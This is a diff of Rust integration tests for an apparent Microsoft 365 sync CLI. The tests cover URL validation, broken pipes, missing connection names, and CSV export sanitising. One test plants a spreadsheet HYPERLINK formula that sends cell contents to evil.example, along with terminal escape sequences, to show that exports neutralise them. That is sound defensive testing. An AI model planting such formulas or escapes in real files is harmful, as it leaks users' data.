@@ -622,3 +622,240 @@ async fn concealed_report_names_are_found_by_the_test_and_shown_on_request() {
     assert!(hidden.status.success());
     assert_eq!(warnings()[0]["code"], "report_names_concealed");
 }
+
+#[test]
+fn base_urls_with_a_query_a_fragment_or_a_password_are_refused() {
+    let dir = tempfile::tempdir().unwrap();
+    let db = dir.path().join("store.db");
+    let add_with = |login: &str, graph: &str| {
+        m365sync(
+            &db,
+            &[
+                "connection",
+                "add",
+                "x",
+                "--tenant-id",
+                "72f988bf-86f1-41af-91ab-2d7cd011db47",
+                "--client-id",
+                "72f988bf-86f1-41af-91ab-2d7cd011db47",
+                "--client-secret-env",
+                "S",
+                "--login-url",
+                login,
+                "--graph-url",
+                graph,
+            ],
+            &[("S", "Abc8Q~value")],
+        )
+    };
+    let query = add_with("http://127.0.0.1:9", "http://127.0.0.1:9/?x=1#y");
+    let (_, err) = text(&query);
+    assert_eq!(query.status.code(), Some(2), "{err}");
+    assert!(
+        err.contains("--graph-url") && err.contains("without ?… or #…"),
+        "{err}"
+    );
+
+    let password = add_with("http://admin:hunter2@127.0.0.1:9", "http://127.0.0.1:9");
+    let (out, err) = text(&password);
+    assert_eq!(password.status.code(), Some(2), "{err}");
+    assert!(
+        err.contains("--login-url") && err.contains("user:password@"),
+        "{err}"
+    );
+    assert!(
+        !err.contains("hunter2") && !out.contains("hunter2"),
+        "{err}"
+    );
+
+    let listed = m365sync(&db, &["connection", "list", "--json"], &[]);
+    assert_eq!(
+        serde_json::from_slice::<Value>(&listed.stdout).unwrap(),
+        serde_json::json!([])
+    );
+}
+
+/// Runs m365sync with its standard output a pipe whose reader is already closed, as
+/// `m365sync … | head` leaves it once head has read its fill.
+fn with_reader_gone(db: &Path, args: &[&str]) -> Output {
+    let mut child = Command::new(env!("CARGO_BIN_EXE_m365sync"))
+        .arg("--db")
+        .arg(db)
+        .args(args)
+        .env_remove("M365SYNC_SECRET_KEY")
+        .env_remove("M365SYNC_DB")
+        .stdin(Stdio::null())
+        .stdout(Stdio::piped())
+        .stderr(Stdio::piped())
+        .spawn()
+        .expect("run m365sync");
+    drop(child.stdout.take());
+    child.wait_with_output().expect("wait for m365sync")
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn a_reader_that_stops_early_ends_the_output_quietly() {
+    let sim = sim(40).await;
+    let dir = tempfile::tempdir().unwrap();
+    let db = dir.path().join("store.db");
+    add(&db, &sim, "contoso", &sim.tenants()[0].client_secret);
+    let synced = m365sync(&db, &["sync", "contoso"], &[]);
+    assert!(synced.status.success(), "{:?}", text(&synced));
+    let commands: [&[&str]; 12] = [
+        &["runs"],
+        &["runs", "--json"],
+        &["export", "contacts", "--format", "csv"],
+        &["export", "contacts"],
+        &["export", "mailboxes", "--format", "csv"],
+        &["export", "licenses"],
+        &["export", "organizations", "--format", "csv"],
+        &["connection", "list"],
+        &["connection", "list", "--json"],
+        &["connection", "test", "contoso", "--json"],
+        &["sync", "contoso", "--json"],
+        &["migrate"],
+    ];
+    for args in commands {
+        let output = with_reader_gone(&db, args);
+        let (_, err) = text(&output);
+        assert_eq!(output.status.code(), Some(0), "{args:?}: {err}");
+        assert!(
+            !err.contains("panicked") && !err.contains("error"),
+            "{args:?}: {err}"
+        );
+    }
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn runs_of_a_connection_that_never_was_is_an_error_naming_those_there_are() {
+    let sim = sim(3).await;
+    let dir = tempfile::tempdir().unwrap();
+    let db = dir.path().join("store.db");
+    let none = m365sync(&db, &["runs", "--connection", "nosuch"], &[]);
+    assert_eq!(none.status.code(), Some(1), "{:?}", text(&none));
+    assert!(
+        text(&none).1.contains("no connections yet"),
+        "{:?}",
+        text(&none)
+    );
+
+    add(&db, &sim, "contoso", &sim.tenants()[0].client_secret);
+    add(&db, &sim, "fabrikam", &sim.tenants()[0].client_secret);
+    assert!(m365sync(&db, &["sync", "contoso"], &[]).status.success());
+    for args in [
+        &["runs", "--connection", "nosuch"][..],
+        &["runs", "--connection", "nosuch", "--json"],
+    ] {
+        let missing = m365sync(&db, args, &[]);
+        let (out, err) = text(&missing);
+        assert_eq!(missing.status.code(), Some(1), "{args:?}: {err}");
+        assert!(out.is_empty(), "{out}");
+        assert!(
+            err.contains("no connection named 'nosuch'") && err.contains("'contoso', 'fabrikam'"),
+            "{err}"
+        );
+    }
+
+    // A connection with no runs yet lists none, and is no error.
+    let quiet = m365sync(&db, &["runs", "--connection", "fabrikam"], &[]);
+    assert_eq!(quiet.status.code(), Some(0), "{:?}", text(&quiet));
+
+    // Removed, its runs still show under its name.
+    let removed = m365sync(&db, &["connection", "remove", "contoso"], &[]);
+    assert!(removed.status.success(), "{:?}", text(&removed));
+    let kept = m365sync(&db, &["runs", "--connection", "contoso"], &[]);
+    assert_eq!(kept.status.code(), Some(0), "{:?}", text(&kept));
+    assert!(text(&kept).0.contains("· contoso ·"), "{:?}", text(&kept));
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn csv_exports_carry_no_formula_and_no_control_byte() {
+    let sim = sim(4).await;
+    let dir = tempfile::tempdir().unwrap();
+    let db = dir.path().join("store.db");
+    let hyperlink = r#"=HYPERLINK("http://evil.example/?x="&A1,"Click")"#;
+    let http = reqwest::Client::new();
+    let patch = |index: u64, body: Value| {
+        let request = http
+            .patch(format!("{}/_sim/tenants/0/users/{index}", sim.url))
+            .json(&body)
+            .send();
+        async move {
+            let answer = request.await.unwrap();
+            assert!(answer.status().is_success(), "{}", answer.status());
+        }
+    };
+    patch(
+        0,
+        serde_json::json!({ "displayName": hyperlink, "department": "-2+3", "mobilePhone": "@SUM(1+1)" }),
+    )
+    .await;
+    patch(
+        1,
+        serde_json::json!({ "displayName": "Esc\u{1b}]0;owned\u{7}aped\u{0}", "department": "\u{9b}31mred\u{7f}", "mobilePhone": "+1 555 0100" }),
+    )
+    .await;
+    add(&db, &sim, "contoso", &sim.tenants()[0].client_secret);
+    let synced = m365sync(&db, &["sync", "contoso"], &[]);
+    assert!(synced.status.success(), "{:?}", text(&synced));
+
+    let exported = m365sync(&db, &["export", "contacts", "--format", "csv"], &[]);
+    assert!(exported.status.success(), "{:?}", text(&exported));
+    let csv = String::from_utf8(exported.stdout).unwrap();
+    for cells in [
+        r#","'=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")","#,
+        ",'-2+3,",
+        ",'@SUM(1+1),",
+        ",Esc]0;ownedaped,",
+        ",31mred,",
+        ",'+1 555 0100,",
+    ] {
+        assert!(csv.contains(cells), "{cells:?} not in\n{csv}");
+    }
+    for kind in ["contacts", "mailboxes", "organizations", "licenses"] {
+        let exported = m365sync(&db, &["export", kind, "--format", "csv"], &[]);
+        assert!(exported.status.success(), "{kind}: {:?}", text(&exported));
+        let mut reader = csv::ReaderBuilder::new()
+            .has_headers(false)
+            .from_reader(exported.stdout.as_slice());
+        let mut rows = 0;
+        for record in reader.records() {
+            rows += 1;
+            for cell in &record.unwrap() {
+                let formula = cell.starts_with(['=', '+', '@', '\t', '\r'])
+                    || (cell.starts_with('-') && cell.parse::<f64>().is_err());
+                assert!(!formula, "{kind}: {cell:?}");
+                assert!(
+                    !cell
+                        .chars()
+                        .any(|c| c.is_control() && c != '\n' && c != '\t'),
+                    "{kind}: {cell:?}"
+                );
+            }
+        }
+        assert!(rows > 1, "{kind}");
+    }
+
+    // JSON stays exact.
+    let json = m365sync(&db, &["export", "contacts"], &[]);
+    let contacts: Value = serde_json::from_slice(&json.stdout).unwrap();
+    let names: Vec<&str> = contacts
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|c| c["display_name"].as_str().unwrap())
+        .collect();
+    assert!(names.contains(&hyperlink), "{names:?}");
+    assert!(
+        names.contains(&"Esc\u{1b}]0;owned\u{7}aped\u{0}"),
+        "{names:?}"
+    );
+    assert!(
+        contacts
+            .as_array()
+            .unwrap()
+            .iter()
+            .any(|c| c["department"] == "\u{9b}31mred\u{7f}"),
+        "{contacts}"
+    );
+}
